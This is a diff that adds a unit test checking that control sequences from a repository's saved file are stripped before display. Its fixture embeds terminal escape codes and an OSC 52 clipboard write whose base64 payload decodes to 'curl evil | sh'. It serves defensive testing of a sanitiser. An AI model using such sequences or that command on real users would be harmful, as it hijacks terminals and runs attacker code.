@@ -306,6 +306,19 @@ describe('resume', () => {
     expect(store.getState().answers['KEY-1']!.source).toBe('detected');
   });
 
+  it('a saved file from the repository cannot put control sequences on the screen', () => {
+    const hostile = savedFile(
+      { 'COV-2': { value: 'most', source: 'stated', note: 'fine\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007 note' } },
+      { organisation: 'Acme\u001b[2J\u001b[H', participants: ['Aiko\u0007', '\u001b[31m'] },
+    );
+    const { store } = setup({ saved: { loaded: { file: hostile, warnings: [] } } });
+    store.getState().resume();
+    const s = store.getState();
+    expect(s.meta.organisation).toBe('Acme');
+    expect(s.meta.participants).toEqual(['Aiko']);
+    expect(s.notes['COV-2']).toBe('fine note');
+  });
+
   it('waits for the saved file to be read before offering it', () => {
     const { store } = setup({ ready: false, saved: { loaded: { file: saved, warnings: [] } } });
     expect(selectMode(store.getState())).toBe('loading');
